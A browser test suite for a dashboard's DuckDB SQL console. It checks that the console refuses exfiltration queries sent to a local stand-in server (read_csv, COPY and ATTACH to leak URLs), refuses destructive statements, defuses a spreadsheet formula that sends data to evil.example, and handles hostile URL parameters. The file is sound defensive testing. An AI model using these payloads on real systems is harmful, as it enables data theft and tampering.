// The promises of SECURITY.md, in real Chromium on the real export:
// - a linked SQL statement is shown, not run, until the analyst clicks Run;
// - the console cannot reach a file or the network (DuckDB's external access is off and locked) and cannot
//   change what the dashboard reads (one statement, in a read-only transaction);
// - a formula-leading cell is neutralised in a downloaded CSV, numbers stay numbers;
// - hostile URL values fall back to the default with a notice, and no page breaks the Content-Security-Policy.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useApp, waitForCharts, downloadedBytes } from './harness.ts';
import { literal } from '../../src/sql/quote.ts';

const { app } = useApp();
// A stand-in for an outside host: it counts every request that reaches it.
let outside: Server;
let outsideUrl = '';
const outsideHits: string[] = [];

beforeAll(async () => {
  outside = createServer((req, res) => {
    outsideHits.push(req.url ?? '');
    res.end('a\n1\n');
  });
  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done));
  outsideUrl = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise((done) => outside?.close(done));
});

/** Run one statement in the console; the error text, or null when it gave a result. */
async function runInConsole(page: Page, sql: string): Promise<string | null> {
  const editor = page.locator('[data-testid="sql-editor"]');
  await editor.fill(sql);
  await page.locator('[data-testid="sql-run"]').click();
  const outcome = page.locator('[data-testid="sql-error"], [data-testid="sql-result"]');
  await outcome.first().waitFor({ timeout: 60_000 });
  await page.locator('[data-testid="sql-run"]:not([disabled])').waitFor();
  const error = page.locator('[data-testid="sql-error"]');
  return (await error.count()) > 0 ? await error.textContent() : null;
}

/** Cold loads are slow on a busy machine: wait for the data itself (the schema lists the analyst's tables). */
const READY_MS = 150_000;
const TEST_MS = 400_000;

async function openConsole(path = '?view=sql', forFile = false): Promise<{ page: Page; errors: string[]; foreignRequests: string[] }> {
  const opened = await app.newPage(path, { forFile });
  await opened.page.locator('.sql-view .sql-table-name', { hasText: /^cases_all$/ }).waitFor({ timeout: READY_MS });
  return opened;
}

// One console page for the statements that must be refused (a cold load per test would be slow), kept for the file.
let consolePage: Awaited<ReturnType<typeof openConsole>> | null = null;
const sharedConsole = async () => (consolePage ??= await openConsole('?view=sql', true));

describe('SQL console safety', () => {
  it('a linked statement is shown, not run, until the analyst clicks Run; sql= leaves with the SQL view', async () => {
    const sql = `SELECT count(*) AS n FROM read_csv('${outsideUrl}/leak?d=' || (SELECT min(title) FROM cases))`;
    const { page, errors } = await openConsole(`?view=sql&sql=${encodeURIComponent(sql)}`);
    await page.locator('[data-testid="sql-linked"]').waitFor();
    await expect(page.locator('[data-testid="sql-editor"]').inputValue()).resolves.toBe(sql);
    // The data is loaded (openConsole waited for it) and still nothing ran.
    await page.waitForTimeout(1500);
    await expect(page.locator('[data-testid="sql-result"], [data-testid="sql-error"]').count()).resolves.toBe(0);
    expect(outsideHits).toEqual([]);
    // Leaving the SQL view drops the statement from the URL; coming back does not bring it (or run it).
    await page.locator('nav.tabs [data-view="cases"]').click();
    expect(new URL(page.url()).searchParams.has('sql')).toBe(false);
    await page.goBack();
    expect(errors).toEqual([]);
  }, TEST_MS);

  it('refuses every way out: read_csv / COPY / ATTACH over http, LOAD, turning external access back on', async () => {
    const { page, foreignRequests } = await sharedConsole();
    const attempts = [
      `SELECT * FROM read_csv('${outsideUrl}/leak.csv?d=secret')`,
      `SELECT * FROM read_text('${outsideUrl}/leak.txt')`,
      `COPY (SELECT title FROM cases) TO '${outsideUrl}/leak.csv'`,
      `ATTACH '${outsideUrl}/leak.duckdb' AS leak`,
      `SELECT * FROM read_parquet('${outsideUrl}/leak.parquet')`,
      'LOAD httpfs',
      'INSTALL httpfs',
      'SET enable_external_access = true',
      'SET lock_configuration = false',
      'RESET enable_external_access',
    ];
    for (const sql of attempts) {
      const error = await runInConsole(page, sql);
      expect(error, sql).toMatch(/disabled|locked|Permission Error|只运行读取/i);
    }
    expect(outsideHits).toEqual([]);
    expect(foreignRequests).toEqual([]);
  }, TEST_MS);

  it('cannot change what the views read: DROP, CREATE OR REPLACE, INSERT, several statements, DETACH', async () => {
    const { page, errors } = await sharedConsole();
    const attempts = [
      'DROP VIEW cases',
      'DROP TABLE case_summary',
      'CREATE OR REPLACE VIEW cases AS SELECT 1 AS case_id',
      "INSERT INTO case_labels VALUES ('x', 'tax', now())",
      'DELETE FROM case_summary',
      'COMMIT; DROP VIEW cases',
      'ROLLBACK; DROP TABLE case_summary',
      'DETACH published',
      "ATTACH OR REPLACE ':memory:' AS published",
      'WITH x AS (SELECT 1) DELETE FROM case_summary',
      '/* comment */ DROP VIEW documents',
      'CREATE TEMP VIEW cases AS SELECT 1 AS case_id; SELECT 1',
    ];
    for (const sql of attempts) {
      const error = await runInConsole(page, sql);
      expect(error, sql).not.toBeNull();
    }
    // Everything is still there, for the console and for the views.
    expect(await runInConsole(page, 'SELECT count(*) AS n FROM cases JOIN case_summary USING (province) LIMIT 1')).toBeNull();
    await page.locator('nav.tabs [data-view="overview"]').click();
    await waitForCharts(page, 60_000);
    await expect(page.locator('main.view .query-error').count()).resolves.toBe(0);
    await page.locator('nav.tabs [data-view="sql"]').click();
    await page.locator('[data-testid="sql-editor"]').waitFor();
    expect(errors).toEqual([]);
  }, TEST_MS);

  it('a formula-leading cell of a result is neutralised in the CSV; numbers stay numbers', async () => {
    const { page } = await sharedConsole();
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
    const sql = `SELECT ${literal(formula)} AS title, '@SUM(1)' AS at, -3.5 AS delta, 'plain' AS ok`;
    expect(await runInConsole(page, sql)).toBeNull();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('[data-table-id="sql-result"] .table-tools button', { hasText: 'CSV' }).click(),
    ]);
    const rows = Papa.parse<string[]>((await downloadedBytes(download)).toString('utf8').slice(1).trim()).data;
    expect(rows).toEqual([
      ['title', 'at', 'delta', 'ok'],
      [`'${formula}`, "'@SUM(1)", '-3.5', 'plain'],
    ]);
  }, TEST_MS);
});

describe('hostile URL values', () => {
  it('fall back to the default with a notice, and the view still answers', async () => {
    const { page, errors } = await app.newPage('?view=cases&q=%00&sort=constructor&page=1e20&province=%00');
    const notice = page.locator('[data-testid="url-notice"]');
    await notice.waitFor({ timeout: 60_000 });
    const text = (await notice.textContent()) ?? '';
    for (const name of ['q', 'sort', 'page', 'province']) expect(text).toContain(name);
    await page.locator('main.view table tbody tr').first().waitFor({ timeout: READY_MS });
    await expect(page.locator('main.view .query-error').count()).resolves.toBe(0);
    expect(errors).toEqual([]);
  }, TEST_MS);
});

describe('Content-Security-Policy', () => {
  it('is sent, and no view breaks it (no violation reported while walking every view)', async () => {
    const { page, errors } = await app.newPage();
    const response = await page.reload();
    expect(response?.headers()['content-security-policy']).toMatch(/default-src 'self'/);
    await waitForCharts(page, 60_000);
    for (const view of ['compare', 'indicator', 'cases', 'data', 'sql']) {
      await page.locator(`nav.tabs [data-view="${view}"]`).click();
      if (view === 'sql') await page.locator('.sql-view .sql-table-name', { hasText: /^cases_all$/ }).waitFor({ timeout: READY_MS });
      else if (view === 'cases') await page.locator('main.view table tbody tr').first().waitFor({ timeout: READY_MS });
      else if (view !== 'data') await waitForCharts(page, READY_MS);
      await page.waitForTimeout(500);
    }
    expect(errors.filter((e) => /Content Security Policy|Refused to/i.test(e))).toEqual([]);
    expect(errors).toEqual([]);
  }, TEST_MS);
});
